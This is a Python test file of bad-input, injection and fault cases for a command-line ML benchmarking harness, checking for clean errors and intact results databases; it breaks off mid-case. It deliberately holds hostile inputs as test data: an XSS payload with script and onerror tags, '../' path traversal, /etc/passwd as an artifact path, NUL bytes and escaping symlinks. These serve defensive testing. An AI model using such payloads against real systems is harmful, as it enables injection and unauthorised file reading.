"""The hostile-input and fault table: each case sets itself up in a folder, acts as a user (or a bad night)
would through the real command line, and checks the outcome.  Used by tests/hostile/test_hostile.py and by
benchmarks/hostile_summary.py, which prints the counts that go into docs/hostile.md.

* bad input: exit 2, one paragraph naming the file (and line, where there is one) with a fix, no traceback,
  and the results database byte for byte as it was;
* injection: nothing executed, nothing escapes its folder, every outside string escaped in HTML and XML;
* fault: survived with every stored result intact (SQLite integrity check, the runs stored before the fault
  unchanged), and the run resumable.
"""

from __future__ import annotations

import json
import locale
import os
import re
import selectors
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Callable

from markupsafe import escape

from tests.helpers import harness_argv, harness_process


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # "bad input" | "injection" | "fault"
    check: Callable[[Path], None]  # raises AssertionError with what went wrong


CASES: list[Case] = []


def case(kind: str, name: str):
    def register(fn):
        CASES.append(Case(name, kind, fn))
        return fn
    return register


# -- helpers -----------------------------------------------------------------------------------------------

def cli(*args: str, cwd: Path, timeout_s: float = 300) -> subprocess.CompletedProcess:
    """``python -m harness ARGS`` in ``cwd`` as a process of its own (stdin /dev/null, stdout and stderr read
    whole), forked from tests/hostile/cli_server.py where one is free: a new interpreter's imports cost ~1 s.
    Not tests/helpers.py's run_cli (a new interpreter each time, COLUMNS 200) nor cli_in_process (the test's own
    process): each row is a process of its own with the test's environment, as a user's command would be; when
    the server is busy it is tests/helpers.py's harness_process, as run_cli is."""
    server = _cli_server() if FORK_CLI else None
    if server is None:  # not wanted, or another thread of this process is running a command through it
        return harness_process(args, cwd, timeout_s, stdin=subprocess.DEVNULL)
    proc = _Forked(server, args, cwd, subprocess.PIPE, subprocess.PIPE)
    try:
        out, err = proc.communicate(timeout=timeout_s)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
        raise
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def harness_popen(*args, cwd: Path, stdout=subprocess.PIPE, stderr=subprocess.PIPE):
    """``python -m harness ARGS`` started in ``cwd`` for a row that signals it or waits for it while it runs, with
    SIGINT as a terminal delivers it (:func:`_default_sigint`): forked by the fork server when it is free (a
    subprocess.Popen's pid, poll, wait, communicate, send_signal and kill, in text mode), else a new interpreter.
    Not for the rows that read the process's /proc cmdline or environ (they show the server's)."""
    server = _cli_server() if FORK_CLI else None
    if server is None:
        return subprocess.Popen(harness_argv(*args), cwd=cwd, stdout=stdout, stderr=stderr, text=True,
                                preexec_fn=_default_sigint)
    return _Forked(server, args, cwd, stdout, stderr)


# False: each command a new interpreter (benchmarks/hostile_summary.py times answers as a user waits for them).
FORK_CLI = True
_CLI_SERVER: list["_CliServer"] = []
_CLI_SERVER_FREE = threading.Lock()


def _cli_server() -> "_CliServer | None":
    """This process's fork server (started on first use), reserved for the caller until its command's end is
    read (:meth:`_Forked.wait`); None when it is busy."""
    if not _CLI_SERVER_FREE.acquire(blocking=False):
        return None
    if not _CLI_SERVER or _CLI_SERVER[0].proc.poll() is not None:
        _CLI_SERVER[:] = [_CliServer()]
    return _CLI_SERVER[0]


class _CliServer:
    def __init__(self) -> None:
        self.sock, theirs = socket.socketpair()
        script = Path(__file__).with_name("cli_server.py")
        # SIGINT as a terminal delivers it, in the server and so in every child it forks (_default_sigint).
        self.proc = subprocess.Popen([sys.executable, str(script), str(theirs.fileno())], pass_fds=[theirs.fileno()],
                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, preexec_fn=_default_sigint)
        theirs.close()
        self.pending = b""

    def reply(self, word: str, timeout_s: float | None = None) -> int | None:
        """The number of the server's next reply (``word N``); None when none came within ``timeout_s``."""
        while b"\n" not in self.pending:
            if timeout_s is not None:
                with selectors.DefaultSelector() as selector:
                    selector.register(self.sock, selectors.EVENT_READ)
                    if not selector.select(max(timeout_s, 0)):
                        return None
            data = self.sock.recv(1 << 12)
            assert data, "the harness fork server stopped"
            self.pending += data
        line, _, self.pending = self.pending.partition(b"\n")
        assert line.startswith(f"{word} ".encode()), f"the harness fork server stopped: {line!r}"
        return int(line.split()[1])


class _Forked:
    """A ``python -m harness`` child of the fork server, answering as subprocess.Popen(text=True) does for what the
    rows use; its end is the server's ``status`` reply, read by :meth:`wait` (which frees the server)."""

    def __init__(self, server: _CliServer, args, cwd: Path, stdout, stderr) -> None:
        self.server, self.args, self.returncode = server, harness_argv(*args), None
        self.pipes: dict[int, list[bytes]] = {}  # our read ends, with what each has given so far
        self.closed: set[int] = set()  # the read ends at their end of file
        ends = [os.open(os.devnull, os.O_RDONLY)]
        for how in (stdout, stderr):
            if how == subprocess.PIPE:
                read_end, write_end = os.pipe()
                self.pipes[read_end] = []
                ends.append(write_end)
            else:
                assert how == subprocess.DEVNULL, how
                ends.append(os.open(os.devnull, os.O_WRONLY))
        self.streams, self.kinds = list(self.pipes), (stdout, stderr)  # the read ends: stdout's, then stderr's
        request = json.dumps({"args": self.args[3:], "cwd": str(Path(cwd).resolve()), "env": dict(os.environ)})
        try:
            socket.send_fds(server.sock, [request.encode()], ends)
        finally:
            for fd in ends:
                os.close(fd)
        self.pid = server.reply("pid")

    def poll(self) -> int | None:
        try:
            return self.wait(0)
        except subprocess.TimeoutExpired:
            return None

    def wait(self, timeout: float | None = None) -> int:
        if self.returncode is None:
            status = self.server.reply("status", timeout)
            if status is None:
                raise subprocess.TimeoutExpired(self.args, timeout)
            self.returncode = os.waitstatus_to_exitcode(status)
            _CLI_SERVER_FREE.release()
        return self.returncode

    def send_signal(self, sig: int) -> None:
        if self.poll() is None:  # not yet reaped by the server: the pid is still the child's
            os.kill(self.pid, sig)

    def kill(self) -> None:
        self.send_signal(signal.SIGKILL)

    def communicate(self, timeout: float | None = None) -> tuple[str | None, str | None]:
        deadline = None if timeout is None else time.monotonic() + timeout
        with selectors.DefaultSelector() as selector:
            for fd in self.pipes:
                if fd not in self.closed:
                    selector.register(fd, selectors.EVENT_READ)
            while selector.get_map():
                left_s = None if deadline is None else deadline - time.monotonic()
                if left_s is not None and left_s <= 0:
                    raise subprocess.TimeoutExpired(self.args, timeout)
                for key, _ in selector.select(left_s):
                    data = os.read(key.fd, 1 << 16)
                    if data:
                        self.pipes[key.fd].append(data)
                    else:
                        selector.unregister(key.fd)
                        os.close(key.fd)
                        self.closed.add(key.fd)
        self.wait(None if deadline is None else max(deadline - time.monotonic(), 0))
        texts = iter([_as_text(b"".join(self.pipes[fd])) for fd in self.streams])
        return tuple(next(texts) if kind == subprocess.PIPE else None for kind in self.kinds)


def _as_text(data: bytes) -> str:
    """As subprocess's text mode reads a stream: the locale's encoding, strictly, and universal newlines."""
    text = data.decode(locale.getpreferredencoding(False))
    return text.replace("\r\n", "\n").replace("\r", "\n")


def tiny_onnx(path: Path, name_in_manifest: str | None = None) -> Path:
    """A real ONNX model (Relu over 1x64), with a manifest when a model name is given."""
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])])
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9), path)
    if name_in_manifest is not None:
        path.with_name(path.name + ".manifest.json").write_text(json.dumps(
            {"model": name_in_manifest, "stage": "vad", "backend": "ort-cpu", "quantization": "fp32"}))
    return path


def lab(root: Path, plan_extra: str = "", model: str = "tiny", runs: int = 2) -> Path:
    """A host inventory, one tiny build and a plan; returns the plan path."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "devices.yaml").write_text("devices:\n  - {id: host, platform: host}\n")
    tiny_onnx(root / "builds" / "tiny.onnx", model)
    plan = root / "plan.yaml"
    plan.write_text(f"name: lab\ninventory: devices.yaml\nartifacts: [builds/tiny.onnx]\nwarmup_iterations: 0\n"
                    f"iterations: 3\nruns: {runs}\nthreads: 1\n" + textwrap.dedent(plan_extra))
    return plan


_PTE: list[bytes] = []


def _tiny_pte_bytes() -> bytes:
    """A real XNNPACK .pte (Linear 8x8), exported once and kept beside the tests' other cached builds
    (tests/conftest.py's kept_export, under a fingerprint of this file): the export's imports cost a process 10-30 s."""
    if not _PTE:
        from tests.conftest import kept_export

        _PTE.append((kept_export("hostile-linear8", _export_linear8, Path(__file__)) / "tiny.pte").read_bytes())
    return _PTE[0]


def _export_linear8(folder: Path) -> None:
    import torch

    from harness.zoo.export import export_pte_xnnpack

    export_pte_xnnpack(torch.nn.Linear(8, 8).eval(), (torch.randn(1, 8),), folder / "tiny.pte")


_TEMPLATE: list[Path] = []


def stored_db(root: Path) -> Path:
    """A results database holding one finished run: measured once per session (:func:`made_once`), copied into
    each case."""
    if not _TEMPLATE:
        def measure(home: Path) -> None:
            proc = cli("run", str(lab(home / "lab")), "--db", str(home / "h.db"), "-q", cwd=home)
            assert proc.returncode == 0, proc.stderr[-2000:]

        _TEMPLATE.append(made_once("db", measure) / "h.db")
    db = root / "h.db"
    if not db.exists():
        _copy_db(_TEMPLATE[0], db)
    return db


def made_once(name: str, make: Callable[[Path], None]) -> Path:
    """The folder ``make(folder)`` fills, made once per test session and only read (copied from) by the rows:
    under pytest-xdist every worker of the session (PYTEST_XDIST_TESTRUNUID) takes the one the first made,
    instead of measuring it again (a clean night on the simulated phone costs ~8 s); otherwise once per process.
    Made in place under a lock, not renamed from a scratch folder as the build cache's entries are: the databases
    inside record the folder's own paths."""
    import tempfile

    from tests.conftest import file_lock

    session = os.environ.get("PYTEST_XDIST_TESTRUNUID")
    if not session:
        folder = Path(tempfile.mkdtemp(prefix=f"hostile-{name}-"))
        make(folder)
        return folder
    folder = Path(tempfile.gettempdir()) / f"hostile-{name}-{session}"
    with file_lock(folder.with_name(f"{folder.name}.lock")):
        if not (folder / ".made").is_file():  # absent, or left half made by a worker whose make failed
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir()
            make(folder)
            (folder / ".made").touch()
    return folder


def _copy_db(source: Path, db: Path) -> None:
    con, copy = sqlite3.connect(source), sqlite3.connect(db)
    con.backup(copy)  # a consistent copy whatever the WAL holds
    con.close()
    copy.close()


def cli_server_and_stored_db() -> None:
    """Start this process's fork server and measure the database :func:`stored_db` copies (the first ~3 s of
    the table, paid up front rather than by whichever row comes first)."""
    import tempfile

    with tempfile.TemporaryDirectory() as scratch:
        stored_db(Path(scratch))
    # Started here even where another worker of the session measured the database (made_once): else the first row
    # of this worker paid for it.
    if FORK_CLI and _cli_server() is not None:
        _CLI_SERVER_FREE.release()


def expect_user_error(proc, *names: str, line: int | None = None) -> None:
    out = proc.stderr
    assert proc.returncode == 2, f"exit {proc.returncode}, wanted 2: {out[-1500:]}"
    assert "Traceback" not in out, out[-1500:]
    for name in names:
        assert name in out, f"the message does not name {name!r}: {out[-800:]}"
    if line is not None:
        assert f":{line}:" in out, f"the message does not give line {line}: {out[-800:]}"
    # "Fix:" as UserError prints it, or the word fix on its own ("fix" in out.lower() matched "suffix", "prefix").
    assert "Fix:" in out or re.search(r"\bfix\b", out, re.I), f"no fix offered: {out[-800:]}"


def bad_run(root: Path, *names: str, line: int | None = None, plan: Path | None = None) -> None:
    """``harness run`` of a broken lab must stop with a clear error and leave the database as it was."""
    db = stored_db(root)
    before = db.read_bytes()
    proc = cli("run", str(plan or root / "plan.yaml"), "--db", str(db), "-q", cwd=root)
    expect_user_error(proc, *names, line=line)
    assert db.read_bytes() == before, "the results database changed"


def wav(path: Path, seconds: float = 0.5, rate: int = 16000, channels: int = 1) -> None:
    import numpy as np
    import soundfile as sf

    path.parent.mkdir(parents=True, exist_ok=True)
    data = (np.sin(np.linspace(0, 400, int(seconds * rate))) * 0.1).astype("float32")
    sf.write(path, np.stack([data] * channels, axis=1) if channels > 1 else data, rate)


def corpus(root: Path, audio: str = "a.wav", extra_line: str | None = None) -> Path:
    folder = root / "corpus"
    folder.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps({"id": "u1", "audio": audio, "text": "hello there", "duration_s": 0.5})]
    if extra_line is not None:
        lines.append(extra_line)
    (folder / "manifest.jsonl").write_text("\n".join(lines) + "\n")
    return folder


# -- bad input ---------------------------------------------------------------------------------------------

@case("bad input", "plan: malformed YAML")
def _(root):
    lab(root)
    (root / "plan.yaml").write_text("name: lab\nartifacts: [builds/tiny.onnx\niterations: 3\n")
    bad_run(root, "plan.yaml")


@case("bad input", "plan: wrongly typed number")
def _(root):
    lab(root, "")
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("iterations: 3", "iterations: lots"))
    bad_run(root, "plan.yaml", "iterations", line=5)


@case("bad input", "plan: negative iterations")
def _(root):
    lab(root)
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("iterations: 3", "iterations: -5"))
    bad_run(root, "plan.yaml", "iterations", line=5)


@case("bad input", "plan: absurd number of runs")
def _(root):
    lab(root, runs=10**9)
    bad_run(root, "plan.yaml", "runs", line=6)


@case("bad input", "plan: negative profile_runs")
def _(root):
    lab(root, "profile_runs: -1\n")
    bad_run(root, "plan.yaml", "profile_runs", line=8)


@case("fault", "a damaged .etrecord beside a .pte: measured and profiled, operators unmapped, the log says why")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx").unlink()
    (root / "builds" / "lin.pte").write_bytes(_tiny_pte_bytes())
    (root / "builds" / "lin.etrecord").write_bytes(b"PK\x03\x04 cut short")
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("builds/tiny.onnx", "builds/lin.pte"))
    proc = cli("run", str(p), "--db", "h.db", "-q", cwd=root)
    assert proc.returncode == 0, proc.stderr[-1500:]
    assert "Traceback" not in proc.stderr
    from harness.store import Store

    with Store(root / "h.db", read_only=True) as store:
        (cell,) = store.cells(store.runs(1)[0].run_id)
    assert cell.status == "ok" and len(cell.samples_ms) == 2 * 3, (cell.status, cell.reason)
    (profile,) = cell.profiles
    assert profile.operators and "could not be read" in cell.log, cell.log[-800:]


@case("bad input", "plan: unknown key")
def _(root):
    lab(root, "iteratons: 40\n")
    bad_run(root, "plan.yaml", "iteratons", "unknown key", line=8)


@case("bad input", "plan: twelve mistakes are listed at once, ten with their lines (showed one, then '(and 11 more')")
def _(root):
    lab(root, "".join(f"colour{i}: red\n" for i in range(12)), runs=0)  # runs: 0 on line 6, unknown keys on 8-19
    bad_run(root, "plan.yaml:6: runs:", "plan.yaml:8: colour0: unknown key", "plan.yaml:15: colour7: unknown key",
            "and 3 more problems in this file.")


@case("bad input", "plan: an unknown device and a build that is no model, both told at the plan's lines at once "
                   "(showed the inventory's file, then the build's path alone)")
def _(root):
    lab(root)
    (root / "plan.yaml").write_text("name: lab\ndevices: [host, nophone]\ninventory: devices.yaml\n"
                                    "artifacts: [/etc/passwd]\n")
    bad_run(root, "plan.yaml:2: devices[1]: no device 'nophone'", "known: host",
            "plan.yaml:4: artifacts[0]: /etc/passwd: unknown model suffix")


@case("bad input", "inventory: a problem in each of two entries, both named")
def _(root):
    lab(root)
    (root / "devices.yaml").write_text("devices:\n  - {id: host, platform: host, serail: abc}\n"
                                       "  - {id: pixel, platform: android, serial: x, adb_port: 99999999}\n")
    bad_run(root, "devices.yaml:2: devices[0].serail: unknown key", "devices.yaml:3: devices[1].adb_port")


@case("bad input", "a reading command outside any project: says where it looked, creates no database")
def _(root):
    away = root / "away"
    away.mkdir()
    for argv in (("runs",), ("report", "latest"), ("site", "-o", "s"), ("export", "latest")):
        proc = cli(*argv, cwd=away)
        expect_user_error(proc, "no database at reports/harness.db", f"no harness project in {away}", "HARNESS_DB")
        assert list(away.iterdir()) == [], f"{argv} left {list(away.iterdir())}"


@case("bad input", "harness.toml: a folder, a FIFO or a broken link (was skipped: 'no harness project in ...')")
def _(root):
    for kind, make in (("a folder", Path.mkdir), ("a FIFO", os.mkfifo),
                       ("a broken link", lambda path: path.symlink_to(root / "nowhere"))):
        folder = root / kind.replace(" ", "-")
        folder.mkdir()
        make(folder / "harness.toml")
        expect_user_error(cli("runs", cwd=folder), f"harness.toml in {folder} is {kind}", "remove it")
        assert sorted(p.name for p in folder.iterdir()) == ["harness.toml"]


@case("bad input", "harness.toml: a number and a table where paths go (said: Input is not a valid path for "
                   "<class 'pathlib.Path'>)")
def _(root):
    (root / "harness.toml").write_text("inventory = 3\n[db]\nx = 1\n")
    proc = cli("runs", cwd=root)
    expect_user_error(proc, "harness.toml:1: inventory: must be a path (text), not a number",
                      "harness.toml:2: db: must be a path (text), not a mapping")
    assert "class" not in proc.stderr and sorted(p.name for p in root.iterdir()) == ["harness.toml"]


@case("bad input", "runs --db naming a missing file inside a project whose db it is (said: 'the database of the "
                   "project in ...')")
def _(root):
    (root / "harness.toml").write_text('db = "my.db"\n')
    proc = cli("runs", "--db", "my.db", cwd=root)
    expect_user_error(proc, f"no database at {root / 'my.db'} (given by --db)")
    assert "the database of the project" not in proc.stderr and sorted(p.name for p in root.iterdir()) == [
        "harness.toml"]


@case("bad input", "run: a plan without an inventory, outside any project (said: 'devices.yaml: file not found')")
def _(root):
    lab(root)
    away = root / "away"
    away.mkdir()
    plan = away / "plan.yaml"
    plan.write_text((root / "plan.yaml").read_text().replace("inventory: devices.yaml\n", ""))
    proc = cli("run", str(plan), "--db", str(root / "h.db"), cwd=away)
    expect_user_error(proc, f"no harness project in {away}", "HARNESS_INVENTORY")
    assert sorted(p.name for p in away.iterdir()) == ["plan.yaml"]


@case("bad input", "harness.toml: a misspelt key, and a value that is not TOML")
def _(root):
    (root / "reports").mkdir(parents=True)
    (root / "harness.toml").write_text('inventory = "devices.yaml"\ndatabse = "reports/h.db"\n')
    expect_user_error(cli("runs", cwd=root), "harness.toml", "databse: unknown key", "db, inventory", line=2)
    (root / "harness.toml").write_text("db = reports/h.db\n")
    expect_user_error(cli("runs", cwd=root), "harness.toml", "not valid TOML", line=1)
    assert sorted(p.name for p in root.iterdir()) == ["harness.toml", "reports"] and not any((root / "reports").iterdir())


@case("bad input", "inventory: malformed YAML")
def _(root):
    lab(root)
    (root / "devices.yaml").write_text("devices:\n  - {id: host, platform: host\n")
    bad_run(root, "devices.yaml")


@case("bad input", "inventory: unknown key")
def _(root):
    lab(root)
    (root / "devices.yaml").write_text("devices:\n  - id: host\n    platform: host\n    serail: abc\n")
    # The file and its line as one string (a message naming the file in one place and ":4:" in another, or the
    # plan's line, passed the separate checks); the allowed keys listed.
    bad_run(root, "devices.yaml:4:", "devices[0].serail", "unknown key", "backends")


@case("bad input", "manifest: malformed JSON")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text('{"model": "tiny", "stage": ')
    bad_run(root, "tiny.onnx.manifest.json")


@case("bad input", "manifest: wrongly typed field")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text('{"model": "tiny", "size_bytes": "big"}')
    bad_run(root, "tiny.onnx.manifest.json", "size_bytes")


@case("bad input", "model: random bytes named .onnx")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx").write_bytes(os.urandom(4096))
    bad_run(root, "tiny.onnx")


@case("bad input", "model: empty .onnx")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx").write_bytes(b"")
    bad_run(root, "tiny.onnx")


@case("bad input", "model: truncated .onnx")
def _(root):
    lab(root)
    path = root / "builds" / "tiny.onnx"
    path.write_bytes(path.read_bytes()[:40])
    bad_run(root, "tiny.onnx")


@case("bad input", "model: a .pte that is an ONNX file")
def _(root):
    lab(root)
    shutil.copy(root / "builds" / "tiny.onnx", root / "builds" / "other.pte")
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("[builds/tiny.onnx]", "[builds/other.pte]"))
    bad_run(root, "other.pte")


@case("bad input", "manifest: sha256 of another build")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps({"model": "tiny", "sha256": "0" * 64}))
    bad_run(root, "tiny.onnx.manifest.json", "sha256")


@case("bad input", "manifest: companion that climbs out of its folder")
def _(root):
    lab(root)
    secret = root / "secret.txt"
    secret.write_text("not for the phone")
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps(
        {"model": "tiny", "companions": {"tokenizer": "../secret.txt"}}))
    bad_run(root, "tiny.onnx.manifest.json", "companions.tokenizer")


@case("bad input", "manifest: a backend the .pte is not delegated to (qnn on an XNNPACK build)")
def _(root):
    lab(root)
    (root / "builds" / "tiny.pte").write_bytes(_tiny_pte_bytes())
    (root / "builds" / "tiny.pte.manifest.yaml").write_text("model: tiny\nbackend: qnn\n")
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/tiny.pte]\n")
    bad_run(root, "tiny.pte.manifest.yaml", "backend: xnnpack", line=2)


@case("bad input", "build name: an fp32 ONNX graph named tiny-int8.onnx")
def _(root):
    # Was labelled int8 from its name and compared with int8 builds.
    import onnx
    from onnx import TensorProto, helper

    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").unlink()  # the name alone speaks
    bias = helper.make_tensor("b", TensorProto.FLOAT, [1, 64], [0.5] * 64)  # float32 weights, no quantizing op
    graph = helper.make_graph([helper.make_node("Add", ["x", "b"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])], [bias])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9),
              root / "builds" / "tiny-int8.onnx")
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/tiny-int8.onnx]\n")
    bad_run(root, "tiny-int8.onnx", "'int8'", "graph is fp32", "quantization:")


@case("bad input", "build name: two stage words (whisper-encoder-logmel.onnx)")
def _(root):
    # Was silently stage mel.
    lab(root)
    (root / "builds" / "tiny.onnx").rename(root / "builds" / "whisper-encoder-logmel.onnx")
    (root / "builds" / "tiny.onnx.manifest.json").unlink()  # the name alone speaks
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/whisper-encoder-logmel.onnx]\n")
    bad_run(root, "whisper-encoder-logmel.onnx", "more than one stage", "stage:")


@case("bad input", "manifest: backend qnn on an .onnx build")
def _(root):
    # Was accepted; the cell was later skipped as "no runner measures unknown onnx builds on android".
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.yaml").write_text("model: tiny\nbackend: qnn\n")
    bad_run(root, "tiny.onnx.manifest.yaml", "ort-qnn", line=2)


def _corpus_check(root, folder, *names, line=None):
    proc = cli("corpus", "check", str(folder), cwd=root)
    expect_user_error(proc, *names, line=line)


@case("bad input", "corpus: a broken manifest line")
def _(root):
    wav(root / "corpus" / "a.wav")
    folder = corpus(root, extra_line='{"id": "u2", "audio": ')
    _corpus_check(root, folder, "manifest.jsonl", line=2)


@case("bad input", "corpus: missing audio")
def _(root):
    folder = corpus(root, audio="nowhere.wav")
    _corpus_check(root, folder, "manifest.jsonl", "nowhere.wav")


@case("bad input", "corpus: 8 kHz audio")
def _(root):
    wav(root / "corpus" / "a.wav", rate=8000)
    _corpus_check(root, corpus(root), "a.wav", "8000 Hz", "16000 Hz")  # "16" matched digits in temporary paths


@case("bad input", "corpus: stereo audio")
def _(root):
    wav(root / "corpus" / "a.wav", channels=2)
    _corpus_check(root, corpus(root), "a.wav", "mono")


@case("bad input", "corpus: absolute audio path")
def _(root):
    wav(root / "elsewhere.wav")
    _corpus_check(root, corpus(root, audio=str(root / "elsewhere.wav")), "manifest.jsonl")


@case("bad input", "corpus: audio path climbing out with ../")
def _(root):
    wav(root / "elsewhere.wav")
    _corpus_check(root, corpus(root, audio="../elsewhere.wav"), "manifest.jsonl")


@case("bad input", "corpus: a NUL character inside an audio path")
def _(root):
    # Was a ValueError traceback ('embedded null byte', exit 1) from Path.resolve() in check_corpus.
    _corpus_check(root, corpus(root, audio="a.wav\x00x"), "manifest.jsonl", "audio", "NUL", line=1)


@case("bad input", "plan: an accuracy corpus whose manifest has a NUL in an audio path")
def _(root):
    corpus(root, audio="a.wav\x00x")
    _plan_with(root, "accuracy:\n  corpus: corpus\n  chains:\n    - name: c\n      model: builds/tiny.onnx\n")
    refused_quickly(root, "manifest.jsonl", "NUL", line=1)


@case("bad input", "plan: a NUL character inside a build path")
def _(root):
    _plan_with(root, "")
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("artifacts: [builds/tiny.onnx]", 'artifacts: ["builds/tiny\\0.onnx"]'))
    refused_quickly(root, "plan.yaml", "artifacts[0]", "NUL", line=3)


@case("bad input", "corpus: symlink pointing outside the corpus")
def _(root):
    wav(root / "elsewhere.wav")
    folder = corpus(root)
    os.symlink(root / "elsewhere.wav", folder / "a.wav")
    _corpus_check(root, folder, "a.wav")


@case("bad input", "corpus: random bytes named .wav")
def _(root):
    folder = corpus(root)
    (folder / "a.wav").write_bytes(os.urandom(4000))
    _corpus_check(root, folder, "a.wav")


@case("bad input", "corpus: a WAV cut off inside its header")
def _(root):
    wav(root / "corpus" / "a.wav")
    path = root / "corpus" / "a.wav"
    path.write_bytes(path.read_bytes()[:30])
    _corpus_check(root, corpus(root), "a.wav")


@case("bad input", "corpus: audio that cannot be opened (a folder named .wav)")
def _(root):
    folder = corpus(root)
    (folder / "a.wav").mkdir()
    _corpus_check(root, folder, "a.wav")


@case("bad input", "wer: files of different lengths")
def _(root):
    (root / "ref.txt").write_text("one\ntwo\n")
    (root / "hyp.txt").write_text("one\n")
    expect_user_error(cli("wer", "ref.txt", "hyp.txt", cwd=root), "hyp.txt")


@case("bad input", "wer: empty files")
def _(root):
    (root / "ref.txt").write_text("")
    (root / "hyp.txt").write_text("")
    expect_user_error(cli("wer", "ref.txt", "hyp.txt", cwd=root), "ref.txt")


@case("bad input", "wer: bytes that are not UTF-8")
def _(root):
    (root / "ref.txt").write_bytes(b"caf\xe9 au lait\n")
    (root / "hyp.txt").write_text("cafe au lait\n")
    expect_user_error(cli("wer", "ref.txt", "hyp.txt", cwd=root), "ref.txt")


@case("bad input", "parse: garbage")
def _(root):
    (root / "run.log").write_bytes(os.urandom(2048))
    expect_user_error(cli("parse", "executor_runner", "run.log", cwd=root), "run.log")


@case("bad input", "report: unknown run id")
def _(root):
    db = stored_db(root)
    before = db.read_bytes()
    expect_user_error(cli("report", "20990101-000000-dead", "--db", str(db), "-o", "out", cwd=root), "h.db")
    assert db.read_bytes() == before


@case("bad input", "--db: a file that is not SQLite")
def _(root):
    (root / "notes.txt").write_text("my notes, not a database\n" * 50)
    before = (root / "notes.txt").read_bytes()
    expect_user_error(cli("runs", "--db", "notes.txt", cwd=root), "notes.txt", "not a harness results database")
    assert (root / "notes.txt").read_bytes() == before


@case("bad input", "--db: written by a newer harness")
def _(root):
    db = stored_db(root)
    con = sqlite3.connect(db)
    con.execute("PRAGMA user_version=99")
    con.commit()
    con.close()
    before = db.read_bytes()
    expect_user_error(cli("runs", "--db", str(db), cwd=root), "h.db", "99")
    assert db.read_bytes() == before


# -- injection ---------------------------------------------------------------------------------------------

HOSTILE = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


@case("injection", "HTML in build and plan names reaches the report and JUnit escaped")
def _(root):
    plan = lab(root, model=HOSTILE)
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("name: lab", f"name: 'lab {HOSTILE}'"))
    db = root / "h.db"
    for night in (1, 2):
        proc = cli("nightly", str(plan), "--db", str(db), "-o", str(root / f"n{night}"), "-q", cwd=root)
        assert proc.returncode in (0, 1), proc.stderr[-1500:]
    html = (root / "n2" / "index.html").read_text()
    assert "<script>alert" not in html and "<img src=x" not in html, "unescaped markup in the report"
    assert "&lt;script&gt;alert(1)" in html  # shown, as text
    from xml.etree import ElementTree

    junit = ElementTree.parse(root / "n2" / "junit.xml")  # well-formed despite the names
    assert any(HOSTILE in (c.get("name") or "") for c in junit.iter("testcase"))


@case("injection", "HTML in transcripts reaches the report escaped")
def _(root):
    from types import SimpleNamespace

    from harness.run.cell import CellResult
    from harness.runners.base import Measurement, RunSettings
    from harness.store import Store

    db = root / "h.db"
    with Store(db) as store:
        run_id = store.create_run("t", Path("t.yaml"), "0" * 64, {}, {}, plan_text="t")
        art = SimpleNamespace(sha256="a" * 64, model="asr", stage="asr", format="onnx", backend="ort-cpu",
                              quantization="fp32", size_bytes=1, path=Path("m.onnx"), inferred=[],
                              manifest_dict=lambda: {})
        store.record_artifact(art)
        chain = SimpleNamespace(name=HOSTILE, corpus=Path("corpus"), limit=None,
                                parts={"mel": art, "encoder": art, "decoder": art})
        spec = SimpleNamespace(key="host/a/transcribe/c", device=SimpleNamespace(id="host"), artifact=art,
                               task="transcribe", runner="host-transcribe", chain=chain,
                               settings=RunSettings(warmup_iterations=0, iterations=1, timeout_s=1))
        utt = {"id": "u1", "reference": "hello", "hypothesis": HOSTILE, "tokens": 3, "mel_ms": 1.0,
               "encoder_ms": 1.0, "decoder_ms_per_token": 1.0, "total_ms": 3.0, "audio_s": 1.0, "rtf": 0.1}
        store.record_run(run_id, spec, 0, CellResult(spec.key, "ok", started_at="t", finished_at="t",
                                                     measurement=Measurement(samples_ms=[3.0], transcripts=[utt])))
        store.set_run_status(run_id, "complete")
    proc = cli("report", run_id, "--db", str(db), "-o", "rep", cwd=root)
    assert proc.returncode == 0, proc.stderr[-1500:]
    html = (root / "rep" / "index.html").read_text()
    assert "<script>alert" not in html and "<img src=x" not in html and "&lt;script&gt;" in html


@case("injection", "HTML in a chain's name and transcripts reaches the history site's chain pages escaped")
def _(root):
    from harness.run.cell import CellResult
    from harness.runners.base import Measurement, RunSettings
    from harness.store import Store

    db = root / "h.db"
    with Store(db) as store:
